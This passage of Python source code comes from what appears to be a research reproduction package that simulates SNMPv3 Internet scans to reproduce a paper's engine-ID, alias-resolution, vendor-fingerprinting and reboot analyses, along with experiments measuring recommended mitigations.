from repro.fingerprint.vendor import VendorInference, vendor_of_alias_set
from repro.net.addresses import IPAddress
from repro.pipeline.filters import FilterPipeline, PipelineResult
from repro.pipeline.records import MergedObservation, ValidRecord
from repro.scanner.campaign import CampaignResult, ScanCampaign
from repro.topology.config import TopologyConfig
from repro.topology.datasets import RdnsZone, RouterDatasets, build_rdns_zone
from repro.topology.generator import build_topology
from repro.topology.model import Topology


@dataclass
class ExperimentContext:
    """Everything the evaluation sections consume."""

    config: TopologyConfig
    topology: Topology
    campaign: CampaignResult
    pipeline_v4: PipelineResult
    pipeline_v6: PipelineResult

    @classmethod
    def create(
        cls,
        config: "TopologyConfig | None" = None,
        pipeline: "FilterPipeline | None" = None,
        topology_file: "str | None" = None,
    ) -> "ExperimentContext":
        """Run the full measurement pipeline.

        ``topology_file`` runs the whole evaluation over a world loaded
        from an ITDK-style topology description instead of a generated
        one (the ``report``/``publish`` ``--topology-file`` flag) — the
        scheduled-rescan path for file-defined populations.
        """
        config = config or TopologyConfig.paper_scale()
        if topology_file is not None:
            from repro.topology.datasets import load_topology_file

            topology = load_topology_file(topology_file, seed=config.seed)
        else:
            topology = build_topology(config)
        campaign = ScanCampaign(topology=topology, config=config).run()
        pipeline = pipeline or FilterPipeline()
        pipeline_v4 = pipeline.run(*campaign.scan_pair(4))
        pipeline_v6 = pipeline.run(*campaign.scan_pair(6))
        return cls(
            config=config,
            topology=topology,
            campaign=campaign,
            pipeline_v4=pipeline_v4,
            pipeline_v6=pipeline_v6,
        )

    # -- convenience views ----------------------------------------------------

    @property
    def datasets(self) -> RouterDatasets:
        return self.campaign.datasets

    @cached_property
    def rdns_zone(self) -> RdnsZone:
        return build_rdns_zone(self.topology, self.config)

    @cached_property
    def valid_v4(self) -> list[ValidRecord]:
        return self.pipeline_v4.valid

    @cached_property
    def valid_v6(self) -> list[ValidRecord]:
        return self.pipeline_v6.valid

    @cached_property
    def record_by_address(self) -> dict[IPAddress, ValidRecord]:
        return {r.address: r for r in self.valid_v4 + self.valid_v6}

    @cached_property
    def merged_v4(self) -> list[MergedObservation]:
        """Scan-pair join for IPv4 (pre-filter), cached for the figures."""
        from repro.pipeline.records import merge_scan_pair

        return merge_scan_pair(*self.campaign.scan_pair(4))[0]

    @cached_property
    def merged_v6(self) -> list[MergedObservation]:
        """Scan-pair join for IPv6 (pre-filter), cached for the figures."""
        from repro.pipeline.records import merge_scan_pair

        return merge_scan_pair(*self.campaign.scan_pair(6))[0]

    # -- alias resolution --------------------------------------------------------

    @cached_property
    def alias_v4(self) -> AliasSets:
        return resolve_aliases(self.valid_v4)

    @cached_property
    def alias_v6(self) -> AliasSets:
        return resolve_aliases(self.valid_v6)

    @cached_property
    def alias_dual(self) -> AliasSets:
        """The final joint alias sets (§5.1) — 'devices' in §6's terms."""
        return resolve_dual_stack(self.valid_v4, self.valid_v6)

    # -- router tagging -------------------------------------------------------------

    def is_router_set(self, group: "frozenset[IPAddress]") -> bool:
        """An alias set is a router when any member IP is in a router dataset."""
        return any(self.datasets.is_router_ip(a) for a in group)

    @cached_property
    def router_sets(self) -> AliasSets:
        """Alias sets identified as routers (the ~350k population)."""
        return AliasSets(
            sets=[g for g in self.alias_dual.sets if self.is_router_set(g)],
            technique="snmpv3-routers",
        )

    @cached_property
    def responsive_router_ips_v4(self) -> set[IPAddress]:
        """SNMPv3-responsive IPv4 addresses inside the union router dataset."""
        scan1, scan2 = self.campaign.scan_pair(4)
        responsive = set(scan1.observations) | set(scan2.observations)
        return responsive & set(self.datasets.union_v4)

    # -- fingerprinting ---------------------------------------------------------------

    def vendor_of_set(self, group: "frozenset[IPAddress]") -> VendorInference:
        engine_ids = [
            self.record_by_address[a].engine_id
            for a in group
            if a in self.record_by_address
        ]
        return vendor_of_alias_set(engine_ids)

    @cached_property
    def device_vendors(self) -> list[tuple[frozenset, VendorInference]]:
        """(alias set, vendor) for every de-aliased device (Figure 11)."""
        return [(g, self.vendor_of_set(g)) for g in self.alias_dual.sets]

    @cached_property
    def router_vendors(self) -> list[tuple[frozenset, VendorInference]]:
        """(alias set, vendor) for router alias sets (Figure 12)."""
        return [(g, self.vendor_of_set(g)) for g in self.router_sets.sets]

    # -- per-AS views --------------------------------------------------------------------

    def as_of_set(self, group: "frozenset[IPAddress]") -> "int | None":
        """Majority AS of an alias set's addresses (ground-truth prefix map)."""
        counts: dict[int, int] = {}
        for address in group:
            device = self.topology.device_of_address(address)
            if device is not None:
                counts[device.asn] = counts.get(device.asn, 0) + 1
        if not counts:
            return None
        return max(counts, key=counts.get)

    @cached_property
    def router_vendor_by_as(self) -> dict[int, list[str]]:
        """{asn: [inferred vendor per router]} — the §6.4 input."""
        result: dict[int, list[str]] = {}
        for group, verdict in self.router_vendors:
            asn = self.as_of_set(group)
            if asn is None:
                continue
            result.setdefault(asn, []).append(verdict.vendor)
        return result

    # -- reboot views ------------------------------------------------------------------------

    @cached_property
    def router_last_reboots(self) -> list[float]:
        """One last-reboot timestamp per router alias set (Figure 13)."""
        reboots = []
        for group in self.router_sets.sets:
            for address in group:
                record = self.record_by_address.get(address)
                if record is not None:
                    reboots.append(record.last_reboot_time)
                    break
        return reboots
