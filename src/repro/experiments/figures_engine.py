"""Engine-ID centric figures: 4, 5, 6, 7, 8 and 19 (Appendix B).

Each function consumes the shared :class:`ExperimentContext` and returns
a small result object holding both the plottable series and the scalar
facts the paper's prose asserts about the figure.
"""

from __future__ import annotations

from dataclasses import dataclass

from typing import Iterable

from repro.analysis.ecdf import Ecdf
from repro.analysis.hamming import hamming_weight_distribution, mean, skewness
from repro.experiments.context import ExperimentContext
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineIdFormat


# -- Figure 4: IPs per engine ID ------------------------------------------------


@dataclass(frozen=True)
class Figure4:
    """ECDF of the number of IPs each unique engine ID was seen on."""

    ecdf_v4: Ecdf
    ecdf_v6: Ecdf

    @property
    def singleton_fraction_v4(self) -> float:
        """Paper: >80% of IPv4 engine IDs are seen on one IP."""
        return self.ecdf_v4.at(1.0)

    @property
    def singleton_fraction_v6(self) -> float:
        """Paper: more than half for IPv6."""
        return self.ecdf_v6.at(1.0)

    @property
    def max_ips_single_engine_id_v4(self) -> float:
        """The heavy tail: shared-engine-ID bug populations."""
        return self.ecdf_v4.values[-1] if self.ecdf_v4.values else 0.0


def _ips_per_engine_id(scan_observations: Iterable[ScanObservation]) -> list[int]:
    counts: dict[bytes, int] = {}
    for obs in scan_observations:
        if obs.engine_id is None or not obs.engine_id.raw:
            continue
        counts[obs.engine_id.raw] = counts.get(obs.engine_id.raw, 0) + 1
    return list(counts.values())


def figure4(ctx: ExperimentContext) -> Figure4:
    scan_v4, __ = ctx.campaign.scan_pair(4)
    scan_v6, __ = ctx.campaign.scan_pair(6)
    return Figure4(
        ecdf_v4=Ecdf.from_values(_ips_per_engine_id(scan_v4)),
        ecdf_v6=Ecdf.from_values(_ips_per_engine_id(scan_v6)),
    )


# -- Figure 5: engine-ID format distribution ----------------------------------------


@dataclass(frozen=True)
class Figure5:
    """Share of each engine-ID format among unique engine IDs, per family."""

    shares_v4: dict[EngineIdFormat, float]
    shares_v6: dict[EngineIdFormat, float]

    def share(self, version: int, fmt: EngineIdFormat) -> float:
        shares = self.shares_v4 if version == 4 else self.shares_v6
        return shares.get(fmt, 0.0)

    def render(self) -> str:
        lines = [f"{'format':<22} {'IPv4':>8} {'IPv6':>8}"]
        for fmt in EngineIdFormat:
            lines.append(
                f"{fmt.value:<22} {self.shares_v4.get(fmt, 0.0):>7.1%}"
                f" {self.shares_v6.get(fmt, 0.0):>7.1%}"
            )
        return "\n".join(lines)


def _format_shares(scan: ScanResult) -> dict[EngineIdFormat, float]:
    seen: set[bytes] = set()
    counts: dict[EngineIdFormat, int] = {}
    for obs in scan.observations.values():
        if obs.engine_id is None or not obs.engine_id.raw:
            continue
        if obs.engine_id.raw in seen:
            continue
        seen.add(obs.engine_id.raw)
        counts[obs.engine_id.format] = counts.get(obs.engine_id.format, 0) + 1
    total = max(1, sum(counts.values()))
    return {fmt: count / total for fmt, count in counts.items()}


def figure5(ctx: ExperimentContext) -> Figure5:
    scan_v4, __ = ctx.campaign.scan_pair(4)
    scan_v6, __ = ctx.campaign.scan_pair(6)
    return Figure5(
        shares_v4=_format_shares(scan_v4), shares_v6=_format_shares(scan_v6)
    )


# -- Figure 6: Hamming-weight randomness ----------------------------------------------


@dataclass(frozen=True)
class Figure6:
    """Relative Hamming weights of Octets vs non-conforming engine IDs."""

    octets_weights: list[float]
    non_conforming_weights: list[float]

    @property
    def octets_mean(self) -> float:
        return mean(self.octets_weights)

    @property
    def non_conforming_mean(self) -> float:
        return mean(self.non_conforming_weights)

    @property
    def non_conforming_skewness(self) -> float:
        """Paper: positive skew — sparse bit patterns."""
        return skewness(self.non_conforming_weights)


def figure6(ctx: ExperimentContext) -> Figure6:
    scan_v4, __ = ctx.campaign.scan_pair(4)
    octets = []
    legacy = []
    for obs in scan_v4.observations.values():
        if obs.engine_id is None or not obs.engine_id.raw:
            continue
        if obs.engine_id.format is EngineIdFormat.OCTETS:
            octets.append(obs.engine_id)
        elif obs.engine_id.format is EngineIdFormat.NON_CONFORMING:
            legacy.append(obs.engine_id)
    return Figure6(
        octets_weights=hamming_weight_distribution(octets),
        non_conforming_weights=hamming_weight_distribution(legacy),
    )


# -- Figure 7: last-reboot spread of the top engine IDs --------------------------------


@dataclass(frozen=True)
class Figure7:
    """Last-reboot ECDFs of the three most-shared engine IDs per family."""

    top_v4: list[tuple[bytes, Ecdf]]
    top_v6: list[tuple[bytes, Ecdf]]

    @staticmethod
    def reboot_span_years(ecdf: Ecdf) -> float:
        """Spread between the 5th and 95th percentile, in years."""
        if ecdf.count < 2:
            return 0.0
        return (ecdf.quantile(0.95) - ecdf.quantile(0.05)) / (365.25 * 86400)


def figure7(ctx: ExperimentContext, top_n: int = 3) -> Figure7:
    def top_engine_reboots(scan) -> list[tuple[bytes, Ecdf]]:
        by_engine: dict[bytes, list[float]] = {}
        for obs in scan.observations.values():
            if obs.engine_id is None or not obs.engine_id.raw:
                continue
            by_engine.setdefault(obs.engine_id.raw, []).append(obs.last_reboot_time)
        ranked = sorted(by_engine.items(), key=lambda kv: len(kv[1]), reverse=True)
        return [(raw, Ecdf.from_values(values)) for raw, values in ranked[:top_n]]

    scan_v4, __ = ctx.campaign.scan_pair(4)
    scan_v6, __ = ctx.campaign.scan_pair(6)
    return Figure7(
        top_v4=top_engine_reboots(scan_v4), top_v6=top_engine_reboots(scan_v6)
    )


# -- Figure 8: |delta last reboot| between scans -------------------------------------------


@dataclass(frozen=True)
class Figure8:
    """Reboot-delta ECDFs for all IPs and router IPs, per family."""

    all_v4: Ecdf
    routers_v4: Ecdf
    all_v6: Ecdf
    routers_v6: Ecdf


def figure8(ctx: ExperimentContext) -> Figure8:
    def deltas(version: int) -> tuple[Ecdf, Ecdf]:
        merged = ctx.merged_v4 if version == 4 else ctx.merged_v6
        all_values = []
        router_values = []
        for record in merged:
            if not record.consistent_engine_id:
                continue
            if (
                record.first.engine_time <= 0
                or record.second.engine_time <= 0
                or record.first.engine_boots != record.second.engine_boots
            ):
                continue
            delta = record.reboot_time_delta
            all_values.append(delta)
            if ctx.datasets.is_router_ip(record.address):
                router_values.append(delta)
        return Ecdf.from_values(all_values), Ecdf.from_values(router_values)

    all_v4, routers_v4 = deltas(4)
    all_v6, routers_v6 = deltas(6)
    return Figure8(
        all_v4=all_v4, routers_v4=routers_v4, all_v6=all_v6, routers_v6=routers_v6
    )


# -- Figure 19 (Appendix B): tuple uniqueness ------------------------------------------------


@dataclass(frozen=True)
class Figure19:
    """How many engine IDs share one (last reboot, boots) tuple."""

    engine_ids_per_tuple_v4: Ecdf
    engine_ids_per_tuple_v6: Ecdf
    unique_fraction_v4: float  # paper: 97.2% of IPv4 IPs
    unique_fraction_v6: float  # paper: 99.8% of IPv6 IPs


def figure19(ctx: ExperimentContext) -> Figure19:
    def per_family(records) -> tuple[Ecdf, float]:
        engines_by_tuple: dict[tuple, set[bytes]] = {}
        for record in records:
            key = (int(record.last_reboot_first) // 20, record.engine_boots)
            engines_by_tuple.setdefault(key, set()).add(record.engine_id.raw)
        counts = {key: len(engines) for key, engines in engines_by_tuple.items()}
        ip_weighted = []
        unique_ips = 0
        total_ips = 0
        for record in records:
            key = (int(record.last_reboot_first) // 20, record.engine_boots)
            n = counts[key]
            ip_weighted.append(float(n))
            total_ips += 1
            if n == 1:
                unique_ips += 1
        fraction = unique_ips / total_ips if total_ips else 1.0
        return Ecdf.from_values(ip_weighted), fraction

    ecdf_v4, frac_v4 = per_family(ctx.valid_v4)
    ecdf_v6, frac_v6 = per_family(ctx.valid_v6)
    return Figure19(
        engine_ids_per_tuple_v4=ecdf_v4,
        engine_ids_per_tuple_v6=ecdf_v6,
        unique_fraction_v4=frac_v4,
        unique_fraction_v6=frac_v6,
    )
