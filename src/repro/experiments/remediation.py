"""Remediation: the paper's §8 recommendations, implemented and measured.

The discussion section prescribes three mitigations:

1. **follow best current security practices** — access-control lists /
   segregated management, so SNMP never answers the open Internet;
2. **require explicit SNMPv3 configuration** — no more v2c-implies-v3;
3. **stop deriving engine IDs from MAC addresses** — persistent but
   non-identifying values (random octets) break vendor fingerprinting
   and weaken cross-protocol correlation.

This experiment applies each mitigation to the simulated Internet —
separately and combined — re-runs the scan, and measures what the
attacker's view loses: responsive devices, MAC-identifiable vendors,
resolvable aliases.  It turns the paper's qualitative advice into
numbers.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

from repro.alias.snmpv3 import resolve_aliases
from repro.fingerprint.vendor import infer_vendor
from repro.pipeline.filters import FilterPipeline
from repro.scanner.campaign import ScanCampaign
from repro.snmp.engine_id import EngineId, EngineIdFormat
from repro.topology.config import TopologyConfig
from repro.topology.generator import build_topology
from repro.topology.model import Topology

MITIGATIONS = ("none", "acl", "explicit-v3", "random-engine-id", "all")


@dataclass(frozen=True)
class RemediationOutcome:
    """The attacker's view under one mitigation."""

    mitigation: str
    responsive_ips: int
    valid_records: int
    mac_identified_vendors: int
    non_singleton_alias_sets: int

    def reduction_vs(self, baseline: "RemediationOutcome") -> float:
        """Relative drop in responsive IPs against the baseline."""
        if baseline.responsive_ips == 0:
            return 0.0
        return 1.0 - self.responsive_ips / baseline.responsive_ips


@dataclass
class RemediationExperiment:
    """Outcomes per mitigation, all derived from one base configuration."""

    outcomes: dict[str, RemediationOutcome]

    def render(self) -> str:
        lines = [
            f"{'mitigation':<18} {'responsive':>10} {'valid':>8} "
            f"{'MAC-vendors':>12} {'alias-sets':>10}"
        ]
        for name in MITIGATIONS:
            outcome = self.outcomes.get(name)
            if outcome is None:
                continue
            lines.append(
                f"{outcome.mitigation:<18} {outcome.responsive_ips:>10} "
                f"{outcome.valid_records:>8} {outcome.mac_identified_vendors:>12} "
                f"{outcome.non_singleton_alias_sets:>10}"
            )
        return "\n".join(lines)


def _apply_mitigation(topology: Topology, mitigation: str, adoption: float,
                      seed: int) -> None:
    """Mutate a fresh topology in place to model operator adoption."""
    rng = random.Random(seed ^ 0x53C)
    adopting_ases = {
        asn for asn in topology.ases if rng.random() < adoption
    }
    for device in topology.devices.values():
        if device.asn not in adopting_ases:
            continue
        if mitigation in ("acl", "all"):
            # Management plane segregated: no SNMP from the Internet.
            device.snmp_open = False
        if mitigation in ("explicit-v3", "all"):
            # v2c configuration no longer implies v3: agents that only had
            # v3 via the implicit path fall silent on discovery.
            behavior = device.agent.behavior
            if behavior.v3_enabled_by_community:
                device.agent.behavior = replace(
                    behavior, v3_enabled=False, v3_enabled_by_community=False
                )
        if mitigation in ("random-engine-id", "all"):
            if device.agent.engine_id.format is EngineIdFormat.MAC:
                device.agent.engine_id = EngineId.from_octets(
                    device.agent.engine_id.enterprise or 0,
                    rng.randbytes(8),
                )


def _measure(topology: Topology, config: TopologyConfig, mitigation: str) -> RemediationOutcome:
    campaign = ScanCampaign(topology=topology, config=config).run()
    scan1, scan2 = campaign.scan_pair(4)
    result = FilterPipeline().run(scan1, scan2)
    mac_vendors = sum(
        1 for record in result.valid
        if infer_vendor(record.engine_id).source == "mac-oui"
    )
    alias_sets = resolve_aliases(result.valid)
    return RemediationOutcome(
        mitigation=mitigation,
        responsive_ips=scan1.responsive_count,
        valid_records=len(result.valid),
        mac_identified_vendors=mac_vendors,
        non_singleton_alias_sets=alias_sets.non_singleton_count,
    )


def remediation_experiment(
    config: "TopologyConfig | None" = None,
    adoption: float = 1.0,
    mitigations: "tuple[str, ...]" = MITIGATIONS,
) -> RemediationExperiment:
    """Measure the attacker's view under each §8 mitigation.

    ``adoption`` is the fraction of networks applying the advice — 1.0 is
    the RFC-author's dream; realistic partial adoption shows how much
    residual exposure a stragglers' long tail keeps alive.
    """
    config = config or TopologyConfig.tiny()
    outcomes: dict[str, RemediationOutcome] = {}
    for mitigation in mitigations:
        if mitigation not in MITIGATIONS:
            raise ValueError(f"unknown mitigation: {mitigation!r}")
        topology = build_topology(config)
        if mitigation != "none":
            _apply_mitigation(topology, mitigation, adoption, config.seed)
        outcomes[mitigation] = _measure(topology, config, mitigation)
    return RemediationExperiment(outcomes=outcomes)
