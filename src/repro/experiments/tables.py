"""Tables 1–3 of the paper.

* **Table 1** — scan-campaign overview: responsive IPs, unique engine
  IDs, IPs with valid engine ID, IPs with valid engine ID + engine time;
* **Table 2** — router datasets (ITDK / RIPE Atlas / IPv6 Hitlist) and
  their overlap with SNMPv3-responsive addresses;
* **Table 3** (Appendix A) — the eight alias-resolution variants.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.alias.snmpv3 import MatchVariant, Snmpv3AliasResolver
from repro.experiments.context import ExperimentContext


@dataclass(frozen=True)
class Table1Row:
    """One measurement campaign row of Table 1."""

    label: str
    responsive_ips: int
    unique_engine_ids: int
    valid_engine_id_ips: int     # shared per scan pair, as in the paper
    valid_engine_id_time_ips: int

    def render(self) -> str:
        return (
            f"{self.label:<10} {self.responsive_ips:>10} {self.unique_engine_ids:>12}"
            f" {self.valid_engine_id_ips:>14} {self.valid_engine_id_time_ips:>16}"
        )


@dataclass(frozen=True)
class Table1:
    rows: tuple[Table1Row, ...]

    def render(self) -> str:
        header = (
            f"{'scan':<10} {'#IPs':>10} {'#EngineIDs':>12}"
            f" {'#valid-eid':>14} {'#valid-eid+time':>16}"
        )
        return "\n".join([header] + [row.render() for row in self.rows])


def table1(ctx: ExperimentContext) -> Table1:
    """Reproduce Table 1 from the campaign + pipeline results."""
    rows = []
    for version, pipeline in ((6, ctx.pipeline_v6), (4, ctx.pipeline_v4)):
        scan1, scan2 = ctx.campaign.scan_pair(version)
        for scan in (scan1, scan2):
            rows.append(
                Table1Row(
                    label=scan.label,
                    responsive_ips=scan.responsive_count,
                    unique_engine_ids=scan.unique_engine_ids(),
                    valid_engine_id_ips=pipeline.stats.valid_engine_id_count,
                    valid_engine_id_time_ips=pipeline.stats.valid_count,
                )
            )
    return Table1(rows=tuple(rows))


@dataclass(frozen=True)
class Table2Row:
    """One router-dataset row of Table 2."""

    dataset: str
    ipv4_addresses: int
    ipv4_snmpv3: int
    ipv6_addresses: int
    ipv6_snmpv3: int

    def render(self) -> str:
        return (
            f"{self.dataset:<12} {self.ipv4_addresses:>10} ({self.ipv4_snmpv3:>8})"
            f" {self.ipv6_addresses:>10} ({self.ipv6_snmpv3:>8})"
        )


@dataclass(frozen=True)
class Table2:
    rows: tuple[Table2Row, ...]

    def render(self) -> str:
        header = f"{'dataset':<12} {'IPv4':>10} {'(SNMPv3)':>10} {'IPv6':>10} {'(SNMPv3)':>10}"
        return "\n".join([header] + [row.render() for row in self.rows])

    def row(self, dataset: str) -> Table2Row:
        for row in self.rows:
            if row.dataset == dataset:
                return row
        raise KeyError(dataset)


def table2(ctx: ExperimentContext) -> Table2:
    """Reproduce Table 2: dataset sizes and SNMPv3 overlap."""
    datasets = ctx.datasets
    scan1_v4, scan2_v4 = ctx.campaign.scan_pair(4)
    scan1_v6, scan2_v6 = ctx.campaign.scan_pair(6)
    responsive_v4 = set(scan1_v4.observations) | set(scan2_v4.observations)
    responsive_v6 = set(scan1_v6.observations) | set(scan2_v6.observations)

    def row(name: str, v4_set, v6_set) -> Table2Row:
        return Table2Row(
            dataset=name,
            ipv4_addresses=len(v4_set),
            ipv4_snmpv3=len(set(v4_set) & responsive_v4),
            ipv6_addresses=len(v6_set),
            ipv6_snmpv3=len(set(v6_set) & responsive_v6),
        )

    return Table2(
        rows=(
            row("ITDK", datasets.itdk_v4, datasets.itdk_v6),
            row("RIPE Atlas", datasets.ripe_v4, datasets.ripe_v6),
            row("IPv6 Hitlist", frozenset(), datasets.hitlist_v6),
            row("Union", datasets.union_v4, datasets.union_v6),
        )
    )


@dataclass(frozen=True)
class Table3Row:
    """One alias-resolution variant of Table 3."""

    variant: str
    alias_sets: int
    non_singleton_sets: int
    ips_in_non_singletons: int
    ips_per_non_singleton: float

    def render(self) -> str:
        return (
            f"{self.variant:<26} {self.alias_sets:>9} {self.non_singleton_sets:>9}"
            f" {self.ips_in_non_singletons:>9} {self.ips_per_non_singleton:>7.1f}"
        )


@dataclass(frozen=True)
class Table3:
    rows: tuple[Table3Row, ...]

    def render(self) -> str:
        header = (
            f"{'variant':<26} {'sets':>9} {'non-sing':>9} {'IPs-ns':>9} {'IPs/set':>7}"
        )
        return "\n".join([header] + [row.render() for row in self.rows])

    def row(self, variant: str) -> Table3Row:
        for row in self.rows:
            if row.variant == variant:
                return row
        raise KeyError(variant)


#: Variant order of the paper's Table 3.
TABLE3_VARIANTS: tuple[tuple[str, MatchVariant, bool], ...] = (
    ("Exact first", MatchVariant.EXACT, False),
    ("Exact both", MatchVariant.EXACT, True),
    ("Round first", MatchVariant.ROUND, False),
    ("Round both", MatchVariant.ROUND, True),
    ("Divide by 20 first", MatchVariant.DIVIDE_BY_20, False),
    ("Divide by 20 both", MatchVariant.DIVIDE_BY_20, True),
    ("Divide by 20+round first", MatchVariant.DIVIDE_BY_20_ROUND, False),
    ("Divide by 20+round both", MatchVariant.DIVIDE_BY_20_ROUND, True),
)


def table3(ctx: ExperimentContext) -> Table3:
    """Reproduce Table 3 over the valid IPv4 records."""
    rows = []
    for label, variant, both in TABLE3_VARIANTS:
        resolver = Snmpv3AliasResolver(variant=variant, use_both_scans=both)
        sets = resolver.resolve(ctx.valid_v4)
        rows.append(
            Table3Row(
                variant=label,
                alias_sets=sets.count,
                non_singleton_sets=sets.non_singleton_count,
                ips_in_non_singletons=sets.addresses_in_non_singletons,
                ips_per_non_singleton=sets.mean_non_singleton_size,
            )
        )
    return Table3(rows=tuple(rows))
