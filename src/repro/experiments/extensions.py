"""Extension experiments beyond the paper's evaluation.

* :func:`middlebox_experiment` — the §9 future work ("inferring NAT and
  load balancers in the wild"), made concrete: mine NAT gateways from the
  engine IDs the §4.4 pipeline discards, and find load-balanced VIPs via
  burst re-probing, scored against simulator ground truth;
* :func:`longitudinal_experiment` — the §6.3 promise ("we are currently
  launching more campaigns and will continue monitoring"): repeat the
  campaign at later dates and measure engine-ID persistence, device churn
  and the evolution of the uptime distribution.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.experiments.context import ExperimentContext
from repro.fingerprint.middlebox import MiddleboxDetector, MiddleboxReport
from repro.net.transport import LinkProfile, NetworkFabric
from repro.scanner.zmap import ZmapConfig, ZmapScanner
from repro.snmp.constants import SNMP_PORT
from repro.topology import timeline


# -- §9 future work: middleboxes --------------------------------------------------


@dataclass(frozen=True)
class MiddleboxExperiment:
    """Detection results plus the populations involved."""

    report: MiddleboxReport
    observations_mined: int
    lb_candidates_probed: int

    @property
    def nats_found(self) -> int:
        return len(self.report.nats)

    @property
    def lbs_found(self) -> int:
        return len(self.report.load_balancers)


def middlebox_experiment(ctx: ExperimentContext) -> MiddleboxExperiment:
    """Run NAT mining + LB burst-probing on the campaign's observations.

    The LB burst is restricted to addresses whose scan-pair responses
    already looked suspicious (engine ID flips between the scans) plus a
    sample of stable responders — the triage a real measurement would do
    instead of bursting the whole Internet.
    """
    scan1_v4, scan2_v4 = ctx.campaign.scan_pair(4)
    scan1_v6, __ = ctx.campaign.scan_pair(6)
    observations = list(scan1_v4.observations.values()) + list(
        scan1_v6.observations.values()
    )

    # Triage: flip-between-scans candidates first, then every 20th stable
    # responder as a control group.
    flip_candidates = []
    stable_sample = []
    for index, (address, obs1) in enumerate(sorted(
        scan1_v4.observations.items(), key=lambda kv: int(kv[0])
    )):
        obs2 = scan2_v4.observations.get(address)
        if obs2 is None or obs1.engine_id is None or obs2.engine_id is None:
            continue
        if obs1.engine_id.raw != obs2.engine_id.raw:
            flip_candidates.append(address)
        elif index % 20 == 0:
            stable_sample.append(address)
    candidates = flip_candidates + stable_sample

    detector = MiddleboxDetector(ctx.topology)
    report = detector.run(observations, lb_candidates=candidates)
    return MiddleboxExperiment(
        report=report,
        observations_mined=len(observations),
        lb_candidates_probed=len(candidates),
    )


# -- §6.3 monitoring: longitudinal campaigns ------------------------------------------


@dataclass(frozen=True)
class LongitudinalSnapshot:
    """One follow-up scan, months after the original campaign."""

    label: str
    offset_days: float
    responsive: int
    persistent_engine_ids: int    # same engine ID as the original scan
    changed_engine_ids: int       # address now shows a different engine ID
    new_addresses: int            # responsive now, silent originally
    gone_addresses: int           # responsive originally, silent now
    median_uptime_days: float

    @property
    def persistence_fraction(self) -> float:
        compared = self.persistent_engine_ids + self.changed_engine_ids
        if compared == 0:
            return 1.0
        return self.persistent_engine_ids / compared


@dataclass
class LongitudinalExperiment:
    """Engine-ID persistence over follow-up campaigns."""

    snapshots: list[LongitudinalSnapshot] = field(default_factory=list)


def longitudinal_experiment(
    ctx: ExperimentContext,
    offsets_days: "tuple[float, ...]" = (30.0, 90.0, 180.0),
) -> LongitudinalExperiment:
    """Re-scan the same Internet at later dates.

    Devices keep running (uptimes grow), a fraction reboot in between
    (boots increment), DHCP-pool devices re-address — but engine IDs
    persist across all of it, which is precisely why the paper calls the
    engine ID a *strong, persistent* identifier.
    """
    topology = ctx.topology
    base_scan, __ = ctx.campaign.scan_pair(4)
    baseline = {
        address: obs.engine_id.raw
        for address, obs in base_scan.observations.items()
        if obs.engine_id is not None and obs.engine_id.raw
    }

    result = LongitudinalExperiment()
    for offset in offsets_days:
        start = timeline.SCAN1_V4_START + offset * timeline.SECONDS_PER_DAY
        fabric = NetworkFabric(
            seed=topology.seed ^ int(offset),
            default_profile=LinkProfile(loss_probability=0.02),
        )
        for device in topology.devices.values():
            if not device.snmp_open:
                continue
            handler = (
                device.agent_pool.handle_datagram
                if device.agent_pool is not None
                else device.agent.handle_datagram
            )
            for interface in device.interfaces:
                if interface.snmp_reachable:
                    fabric.bind(interface.address, "udp", SNMP_PORT, handler)
        scanner = ZmapScanner(fabric=fabric, config=ZmapConfig())
        scan = scanner.scan(
            sorted(topology.all_addresses(4), key=int),
            label=f"follow-up+{offset:g}d",
            ip_version=4,
            start_time=start,
        )
        persistent = 0
        changed = 0
        new = 0
        uptimes = []
        for address, obs in scan.observations.items():
            if obs.engine_id is None or not obs.engine_id.raw:
                continue
            if obs.engine_time > 0:
                uptimes.append((obs.recv_time - obs.last_reboot_time) / 86_400)
            original = baseline.get(address)
            if original is None:
                new += 1
            elif original == obs.engine_id.raw:
                persistent += 1
            else:
                changed += 1
        gone = sum(1 for address in baseline if address not in scan.observations)
        uptimes.sort()
        result.snapshots.append(
            LongitudinalSnapshot(
                label=scan.label,
                offset_days=offset,
                responsive=scan.responsive_count,
                persistent_engine_ids=persistent,
                changed_engine_ids=changed,
                new_addresses=new,
                gone_addresses=gone,
                median_uptime_days=uptimes[len(uptimes) // 2] if uptimes else 0.0,
            )
        )
    return result
