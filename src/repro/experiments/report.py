"""Render the complete evaluation as a text report.

``render_full_report`` prints every table and figure reproduction in
paper order — this is what ``examples/full_reproduction.py`` and the
benchmark harness emit, and what EXPERIMENTS.md records.
"""

from __future__ import annotations

import io

from repro.experiments import figures_alias as fa
from repro.experiments import figures_engine as fe
from repro.experiments import figures_vendor as fv
from repro.experiments import tables
from repro.experiments.context import ExperimentContext
from repro.experiments.lab import default_lab, run_lab_experiment


def _h(title: str) -> str:
    return f"\n{'=' * 72}\n{title}\n{'=' * 72}"


def render_full_report(
    ctx: ExperimentContext,
    include_comparators: bool = True,
    include_extensions: bool = False,
) -> str:
    """Render every experiment; comparators (MIDAR/Speedtrap/Nmap/rDNS)
    can be skipped for quick runs, and the beyond-the-paper extensions
    (middlebox inference, amplification, longitudinal monitoring) added
    on request."""
    out = io.StringIO()
    w = out.write

    w(_h("Table 1: SNMPv3 measurement campaigns"))
    w("\n" + tables.table1(ctx).render() + "\n")

    w(_h("Table 2: router datasets and SNMPv3 overlap"))
    w("\n" + tables.table2(ctx).render() + "\n")

    w(_h("Table 3 (Appendix A): alias resolution variants"))
    w("\n" + tables.table3(ctx).render() + "\n")

    w(_h("Figure 4: number of IPs per engine ID"))
    f4 = fe.figure4(ctx)
    w(f"\nIPv4 singleton engine IDs: {f4.singleton_fraction_v4:.1%}")
    w(f"\nIPv6 singleton engine IDs: {f4.singleton_fraction_v6:.1%}")
    w(f"\nlargest IPv4 engine-ID footprint: {f4.max_ips_single_engine_id_v4:.0f} IPs\n")
    w(f4.ecdf_v4.render("IPs per engine ID (IPv4)", [1, 2, 5, 10, 100, 1000]) + "\n")

    w(_h("Figure 5: engine ID format distribution"))
    w("\n" + fe.figure5(ctx).render() + "\n")

    w(_h("Figure 6: relative Hamming weight (randomness)"))
    f6 = fe.figure6(ctx)
    w(f"\nOctets mean weight: {f6.octets_mean:.3f} (random ~ 0.5)")
    w(f"\nNon-conforming mean weight: {f6.non_conforming_mean:.3f}")
